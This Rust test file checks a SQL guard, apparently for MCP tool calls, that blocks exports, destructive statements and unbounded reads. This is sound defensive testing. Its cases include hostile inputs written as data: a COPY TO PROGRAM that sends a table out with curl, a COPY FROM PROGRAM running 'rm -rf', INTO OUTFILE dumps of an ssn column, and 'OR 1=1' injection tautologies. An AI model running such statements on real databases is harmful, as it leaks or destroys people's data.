//! Exports and destructive statements, what is inspected at all, warehouse exports, and the
//! `INTO OUTFILE` scan of unparseable SQL.

use super::*;

/// Rule 2.
#[test]
fn exports_are_blocked() {
    let generic = [
        sql("copy table to file", "COPY users TO '/tmp/x'", EXPORTS),
        sql(
            "sqlite vacuum into a file",
            "VACUUM INTO '/tmp/copy.db'",
            EXPORTS,
        ),
        sql(
            "mysql executable comment hiding a drop",
            "/*!50000 DROP TABLE users */",
            DESTROYS,
        ),
        sql(
            "postgres database_to_xml",
            "SELECT database_to_xml(true, true, '')",
            UNBOUNDED,
        ),
        sql(
            "explain only plans",
            "EXPLAIN SELECT id FROM orders WHERE id = 3",
            Allow,
        ),
        sql(
            "copy query to stdout",
            "COPY (SELECT * FROM users) TO STDOUT",
            EXPORTS,
        ),
        sql(
            "copy bounded query to stdout",
            "COPY (SELECT * FROM users LIMIT 5) TO STDOUT",
            EXPORTS,
        ),
        // Loading a file of the database server's into a table is a way to read server files.
        sql(
            "copy from file",
            "COPY users FROM '/tmp/x'",
            Block(UNRECOGNISED),
        ),
        sql(
            "into outfile",
            "SELECT * FROM users INTO OUTFILE '/tmp/x'",
            EXPORTS,
        ),
        sql(
            "into outfile lowercase",
            "select * from users into outfile '/tmp/x'",
            EXPORTS,
        ),
        sql(
            "into outfile with limit",
            "SELECT * FROM users LIMIT 5 INTO OUTFILE '/tmp/x'",
            EXPORTS,
        ),
        sql(
            "into dumpfile",
            "SELECT ssn FROM users LIMIT 1 INTO DUMPFILE '/tmp/x'",
            EXPORTS,
        ),
        args(
            "into outfile under text key",
            json!({"text": "SELECT * FROM users INTO OUTFILE '/tmp/x'"}),
            EXPORTS,
            "/text",
        ),
        sql(
            "into comment outfile",
            "SELECT * FROM users INTO /* x */ OUTFILE '/tmp/x'",
            EXPORTS,
        ),
        args(
            "attach under note key",
            json!({"note": "attach database '/tmp/x.db' as x"}),
            EXPORTS,
            "/note",
        ),
        sql("copy table to stdout", "COPY users TO STDOUT", EXPORTS),
        sql(
            "into outfile in a literal",
            "SELECT 'INTO OUTFILE' FROM t LIMIT 5",
            Allow,
        ),
        sql(
            "attach database",
            "ATTACH DATABASE '/tmp/x.db' AS x",
            EXPORTS,
        ),
    ];
    check("export-generic", &[], 1000, &generic);

    let postgres = [
        sql("pg copy table to file", "COPY users TO '/tmp/x'", EXPORTS),
        sql(
            "pg copy to stdout csv",
            "COPY users TO STDOUT WITH (FORMAT csv, HEADER)",
            EXPORTS,
        ),
        sql(
            "pg copy query to stdout",
            "COPY (SELECT * FROM users) TO STDOUT",
            EXPORTS,
        ),
        sql(
            "pg copy to program",
            "COPY users TO PROGRAM 'curl -d @- http://x'",
            EXPORTS,
        ),
        sql(
            "pg copy columns to file",
            "COPY users (id, ssn) TO '/tmp/x' WITH (FORMAT csv)",
            EXPORTS,
        ),
        sql(
            "pg copy from file",
            "COPY users FROM '/tmp/x'",
            Block(UNRECOGNISED),
        ),
        sql(
            "pg copy from program",
            "COPY users FROM PROGRAM 'rm -rf /var/lib/postgresql'",
            DESTROYS,
        ),
        sql("pg copy from stdin", "COPY users FROM STDIN", Allow),
    ];
    check(
        "export-postgres",
        &["--dialect", "postgres"],
        1000,
        &postgres,
    );

    let mysql = [
        sql(
            "mysql into outfile",
            "SELECT * FROM users INTO OUTFILE '/tmp/x'",
            EXPORTS,
        ),
        sql(
            "mysql into outfile before from",
            "SELECT * INTO OUTFILE '/tmp/x' FROM users",
            EXPORTS,
        ),
        sql(
            "mysql into dumpfile",
            "SELECT ssn FROM users LIMIT 1 INTO DUMPFILE '/tmp/x'",
            EXPORTS,
        ),
        args(
            "mysql into outfile under note key",
            json!({"note": "SELECT * FROM users INTO OUTFILE '/tmp/x'"}),
            EXPORTS,
            "/note",
        ),
    ];
    check("export-mysql", &["--dialect", "mysql"], 1000, &mysql);

    let sqlite = [
        sql(
            "sqlite attach database",
            "ATTACH DATABASE '/tmp/x.db' AS x",
            EXPORTS,
        ),
        sql("sqlite attach", "ATTACH '/tmp/x.db' AS x", EXPORTS),
    ];
    check("export-sqlite", &["--dialect", "sqlite"], 1000, &sqlite);
}

/// Rule 3.
#[test]
fn destructive_statements_are_blocked() {
    let always_true = [
        ("1=1", "1=1"),
        ("TRUE", "TRUE"),
        ("'a'='a'", "'a'='a'"),
        ("OR 1=1", "id = 5 OR 1=1"),
        ("NOT 0", "NOT 0"),
        ("1", "1"),
        ("2>1", "2>1"),
        ("id = id", "id = id"),
        ("(1=1)", "(1=1)"),
        ("TRUE OR", "TRUE OR id = 5"),
        ("1 <> 2", "1 <> 2"),
        ("1 != 2", "1 != 2"),
        ("NOT FALSE", "NOT FALSE"),
        ("NOT (1=0)", "NOT (1=0)"),
        ("1+1=2", "1+1=2"),
        ("1 IN (1, 2)", "1 IN (1, 2)"),
        ("1 BETWEEN 0 AND 2", "1 BETWEEN 0 AND 2"),
        ("NULL IS NULL", "NULL IS NULL"),
        ("qualified id = id", "users.id = users.id"),
        ("quoted id = id", "\"id\" = \"id\""),
        ("id >= id", "id >= id"),
        ("(id = 5) OR (2 > 1)", "(id = 5) OR (2 > 1)"),
        ("1=1 then comment", "1=1 -- AND id = 5"),
        ("1=1 then block comment", "1=1 /* AND id = 5 */"),
        ("OR TRUE", "id = 5 OR TRUE"),
        ("parenthesised side", "(id) = id"),
        ("numeric string", "1 = '1'"),
    ];
    let mut cases = vec![
        sql("drop table", "DROP TABLE users", DESTROYS),
        sql("drop table lowercase", "drop table users", DESTROYS),
        sql(
            "drop table if exists",
            "DROP TABLE IF EXISTS users",
            DESTROYS,
        ),
        sql("drop view", "DROP VIEW v", DESTROYS),
        sql("drop index", "DROP INDEX i", DESTROYS),
        sql("truncate table", "TRUNCATE TABLE users", DESTROYS),
        sql("truncate", "TRUNCATE users", DESTROYS),
        sql("delete without where", "DELETE FROM users", DESTROYS),
        sql("update without where", "UPDATE users SET a = 1", DESTROYS),
        sql("delete with where", "DELETE FROM users WHERE id = 5", Allow),
        sql(
            "update with where",
            "UPDATE users SET a = 1 WHERE id = 5",
            Allow,
        ),
        sql(
            "delete 1=1 and real",
            "DELETE FROM users WHERE 1=1 AND id = 5",
            Allow,
        ),
        sql(
            "update 1=1 and real",
            "UPDATE users SET a = 1 WHERE 1=1 AND id = 5",
            Allow,
        ),
        sql(
            "delete with subquery where",
            "DELETE FROM users WHERE id IN (SELECT id FROM banned)",
            Allow,
        ),
        // Naming no column, these are no WHERE (even though they delete nothing today).
        sql("delete where 0", "DELETE FROM users WHERE 0", DESTROYS),
        sql(
            "delete where FALSE",
            "DELETE FROM users WHERE FALSE",
            DESTROYS,
        ),
        sql(
            "delete real and 1=1",
            "DELETE FROM users WHERE id = 5 AND 1=1",
            Allow,
        ),
        sql(
            "delete where or 1=1 in comment",
            "DELETE FROM users WHERE id = 5 -- OR 1=1",
            Allow,
        ),
        sql("drop schema", "DROP SCHEMA s CASCADE", DESTROYS),
        sql("drop database", "DROP DATABASE d", DESTROYS),
        sql(
            "delete after cte",
            "WITH x AS (SELECT 1) DELETE FROM users",
            DESTROYS,
        ),
        sql(
            "delete inside cte",
            "WITH d AS (DELETE FROM users RETURNING *) SELECT count(*) FROM d",
            DESTROYS,
        ),
        sql(
            "explain analyze delete",
            "EXPLAIN ANALYZE DELETE FROM users",
            DESTROYS,
        ),
        sql(
            "select then delete",
            "SELECT 1; DELETE FROM users",
            DESTROYS,
        ),
        // A WHERE that names no column of the table is no WHERE, whatever it folds to.
        sql(
            "delete constant false",
            "DELETE FROM users WHERE 1=0",
            DESTROYS,
        ),
        sql(
            "insert",
            "INSERT INTO users (id, name) VALUES (1, 'a')",
            Allow,
        ),
        sql("create table", "CREATE TABLE t (id INT)", Allow),
        sql("create index", "CREATE INDEX i ON t (a)", Allow),
    ];
    for (label, cond) in always_true {
        cases.push(sql(
            &format!("delete where {label}"),
            &format!("DELETE FROM users WHERE {cond}"),
            DESTROYS,
        ));
        cases.push(sql(
            &format!("update where {label}"),
            &format!("UPDATE users SET a = 1 WHERE {cond}"),
            DESTROYS,
        ));
    }
    check("destructive", &[], 1000, &cases);
}

/// Only `tools/call` is inspected, and only its string arguments.
#[test]
fn only_tool_call_arguments_are_inspected() {
    let cases = [
        call(
            "resources/read with sql",
            "resources/read",
            Some(json!({"uri": "db://x", "query": "SELECT * FROM users"})),
            Allow,
            "",
        ),
        call(
            "resources/read with arguments",
            "resources/read",
            Some(json!({"uri": "db://x", "arguments": {"query": "DROP TABLE users"}})),
            Allow,
            "",
        ),
        call(
            "prompts/get with sql",
            "prompts/get",
            Some(json!({"name": "p", "arguments": {"query": "SELECT * FROM users"}})),
            Allow,
            "",
        ),
        call(
            "prompts/get with drop",
            "prompts/get",
            Some(json!({"name": "p", "arguments": {"sql": "DROP TABLE users"}})),
            Allow,
            "",
        ),
        call("tools/call without params", "tools/call", None, Allow, ""),
        call(
            "tools/call without arguments",
            "tools/call",
            Some(json!({"name": TOOL})),
            Allow,
            "",
        ),
        args("empty arguments", json!({}), Allow, ""),
        args(
            "non-string arguments",
            json!({"limit": 5, "flag": true, "none": null, "list": [1, 2.5, false], "o": {"n": 1}}),
            Allow,
            "",
        ),
        call(
            "tools/call with null arguments",
            "tools/call",
            Some(json!({"name": TOOL, "arguments": null})),
            Allow,
            "",
        ),
        // The same SQL in a tools/call is blocked, so the above pass for the right reason.
        sql("tools/call with sql", "SELECT * FROM users", UNBOUNDED),
        args(
            "tools/call with drop",
            json!({"sql": "DROP TABLE users"}),
            DESTROYS,
            "/sql",
        ),
    ];
    check("methods", &[], 1000, &cases);
}

/// Warehouse exports are exports, whatever their inner query (a bounded one included).
#[test]
fn warehouse_exports_are_exports() {
    let redshift = [
        sql(
            "unload bounded query",
            "UNLOAD (SELECT * FROM users LIMIT 5) TO 's3://bucket/x'",
            EXPORTS,
        ),
        sql(
            "unload unbounded query",
            "UNLOAD (SELECT * FROM users) TO 's3://bucket/x'",
            EXPORTS,
        ),
        sql(
            "unload query text",
            "UNLOAD ('SELECT * FROM users') TO 's3://bucket/x' IAM_ROLE 'arn:aws:iam::1:role/r'",
            EXPORTS,
        ),
    ];
    check(
        "unload-redshift",
        &["--dialect", "redshift"],
        1000,
        &redshift,
    );
    let bigquery = [
        sql(
            "export data bounded query",
            "EXPORT DATA OPTIONS (uri = 'gs://bucket/x*.csv', format = 'CSV') AS \
             SELECT * FROM users LIMIT 5",
            EXPORTS,
        ),
        sql(
            "export data unbounded query",
            "EXPORT DATA OPTIONS (uri = 'gs://bucket/x*.csv', format = 'CSV') AS \
             SELECT * FROM users",
            EXPORTS,
        ),
        sql(
            "export data count",
            "EXPORT DATA OPTIONS (uri = 'gs://bucket/x*.csv', format = 'CSV') AS \
             SELECT count(*) FROM users",
            EXPORTS,
        ),
    ];
    check(
        "export-data-bigquery",
        &["--dialect", "bigquery"],
        1000,
        &bigquery,
    );
}

/// The token scan for `INTO OUTFILE` / `VACUUM INTO` in unparseable SQL: only the unquoted
/// word INTO right before OUTFILE/DUMPFILE, or INTO in a statement that starts with VACUUM.
#[test]
fn into_file_scan_of_unparseable_sql() {
    let cases = [
        sql(
            "quoted into before outfile",
            "SELECT * FROM t WHERE \"INTO\" OUTFILE",
            UNPARSED,
        ),
        sql("outfile column", "SELECT outfile FROM t WHERE", UNPARSED),
        sql("unfinished insert into", "INSERT INTO t VALUES (", UNPARSED),
        sql(
            "unparseable vacuum without into",
            "VACUUM t garbage (",
            UNPARSED,
        ),
        sql("vacuum into", "VACUUM main INTO '/tmp/x'", EXPORTS),
        sql(
            "into comment dumpfile",
            "SELECT * FROM t INTO /* x */ DUMPFILE '/tmp/x'",
            EXPORTS,
        ),
    ];
    check("into-file-scan", &[], 1000, &cases);
}
